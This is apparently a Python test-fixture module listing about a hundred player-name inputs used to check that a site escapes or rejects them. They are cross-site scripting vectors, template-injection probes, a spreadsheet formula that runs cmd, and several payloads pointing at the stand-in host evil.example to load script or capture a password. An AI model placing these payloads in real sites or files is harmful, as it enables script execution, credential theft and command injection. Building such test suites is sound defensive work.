"""What people write who want a page to do something: a hundred texts, each short enough for a name.

No two are one but for case or width, for no two players may be.

After the collections of OWASP, PortSwigger and html5sec: markup, attributes, addresses, vector graphics, templates,
style sheets, spreadsheets, and characters that hide or turn what stands beside them. Whatever runs sets `__xss`.
"""

MARKUP = (
    "<script>__xss=1</script>",
    "<SCRIPT>__xss=2</SCRIPT>",
    "<script >__xss=1</script >",
    "<script/x>__xss=1</script/x>",
    "<scr<script>ipt>__xss=1</scr</script>ipt>",
    "<script src=//evil.example/x.js></script>",
    "<script src=data:text/javascript,__xss=1></script>",
    "<script type=module>__xss=1</script>",
    "<img src=x onerror=__xss=1>",
    "<img src=x onerror=alert(1)//",
    "<img/src=x/onerror=__xss=1>",
    "<image src=x onerror=__xss=1>",
    "<IMG SRC=y ONERROR=__xss=2>",
    '<img src="x` `<script>__xss=1</script>"` `>',
    "<body onload=__xss=1>",
    "<iframe src=javascript:parent.__xss=1>",
    '<iframe srcdoc="<script>parent.__xss=1</script>">',
    "<object data=javascript:__xss=1>",
    "<embed src=javascript:__xss=1>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content=0;url=//evil.example>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<form action=//evil.example><input name=password>",
    "<input autofocus onfocus=__xss=1>",
    "<select autofocus onfocus=__xss=1>",
    "<textarea autofocus onfocus=__xss=1>",
    "<button formaction=javascript:__xss=1>Record",
    "<details open ontoggle=__xss=1>",
    "<video><source onerror=__xss=1>",
    "<audio src=x onerror=__xss=1>",
    "<marquee onstart=__xss=1>",
    "<dialog open>__xss</dialog>",
    "<template><script>__xss=1</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=__xss=1>'>",
    "<a href=javascript:__xss=1>click",
    "<b class=xss>bold</b>",
    "<!--><img src=x onerror=__xss=1>-->",
    "<![CDATA[<img src=x onerror=__xss=1>]]>",
    "<?xml version='1.0'?><x xmlns='http://www.w3.org/1999/xhtml'/>",
    "<plaintext>",
    "<xmp><img src=x onerror=__xss=1></xmp>",
    "<frameset onload=__xss=1>",
    "<portal src=javascript:__xss=1>",
    "<x contenteditable onblur=__xss=1>lose focus",
    "<p hx-get=/accounts/logout/ hx-trigger=load>",
    "<p hx-on:load=__xss=1 data-hx-get=//evil.example>",
)
CLOSING = (
    "</title><script>__xss=1</script>",
    "</textarea><img src=x onerror=__xss=1>",
    "</script><script>__xss=1</script>",
    "</style><script>__xss=1</script>",
    "</option></select><img src=x onerror=__xss=1>",
    "</td></tr></table><img src=x onerror=__xss=1>",
    "--></p></div><svg onload=__xss=1>",
    "</noscript><svg onload=__xss=1>",
)
ATTRIBUTES = (
    '" onmouseover="__xss=1',
    "' onmouseover='__xss=1",
    '" autofocus onfocus="__xss=1',
    '"><img src=x onerror=__xss=1>',
    "'><img src=x onerror=__xss=1>",
    '" style="position:fixed;inset:0" onclick="__xss=1',
    "` onmouseover=`__xss=1",
    "x onmouseover=__xss=1",
    '" hx-get="/accounts/logout/" hx-trigger="load',
    '\\"><script>__xss=1</script>',
    "&quot; onmouseover=&quot;__xss=1",
    "&#34;&#62;&#60;img src=x onerror=__xss=1&#62;",
)
ADDRESSES = (
    "javascript:__xss=1",
    "JaVaScRiPt:__xss=2",
    "java&#x0A;script:__xss=1",
    "data:text/html,<script>parent.__xss=1</script>",
    "data:text/html;base64,PHNjcmlwdD5fX3hzcz0xPC9zY3JpcHQ+",
    "vbscript:msgbox(1)",
    "//evil.example/%2e%2e",
    "https://evil.example/login",
)
GRAPHICS = (
    "<svg onload=__xss=1>",
    "<svg/onload=__xss=1>",
    "<svg><script>__xss=1</script></svg>",
    "<svg><animate onbegin=__xss=1 attributeName=x dur=1s>",
    "<svg><a xlink:href=javascript:__xss=1><text y=9>x",
    "<svg><foreignObject><img src=x onerror=__xss=1>",
    "<math><mtext><mglyph><style><img src=x onerror=__xss=1>",
)
TEMPLATES = (
    "{{ 7|add:7 }}",
    "{% include 'admin/base.html' %}",
    "{{ request.user.password }}",
    "{% debug %}",
    "{#",
    "{{constructor.constructor('__xss=1')()}}",
    "${__xss=1}",
    "<%= 7*7 %>",
    "%(name)s %s {name} {0.__class__}",
)
STYLES = (
    "<style>*{display:none}</style>",
    "<style>@import'//evil.example/x.css';</style>",
    "<p style=background:url(//evil.example/x)>",
    "*{}</style><img src=x onerror=__xss=1>",
)
SPREADSHEET = (
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(1+1)",
    "＝1+1",
    '=HYPERLINK("//evil.example","x")',
)
ODD = (
    "\u200fabc\u200e<img src=x onerror=__xss=1>",
    "＜script＞__xss=3＜/script＞",
    "%3Cscript%3E__xss=1%3C/script%3E",
    "\\u003cscript\\u003e__xss=1\\u003c/script\\u003e",
    "<img src=x onerror=__xss=1 %00>",
    "ﷺ" * 20,
    "Z̴̢͑a̷͝ͅļ̵̛g̶̛͜o̴͐͜<b>",
    "null",
)
# Characters that break a line of a script, hide, or turn the text around: no name holds them.
REFUSED = (
    "Deniz\u2028__xss=1//",
    "Deniz\u2029__xss=1//",
    "De\u0000niz",
    "Deniz\u202e<tpircs>",
    "Deniz\u2066x\u2069",
    "Deniz\u200b",
    "\ufeffDeniz",
    "Deniz\u001b[31m",
    "java\tscript:__xss=1",
)
TAKEN = MARKUP + CLOSING + ATTRIBUTES + ADDRESSES + GRAPHICS + TEMPLATES + STYLES + SPREADSHEET + ODD
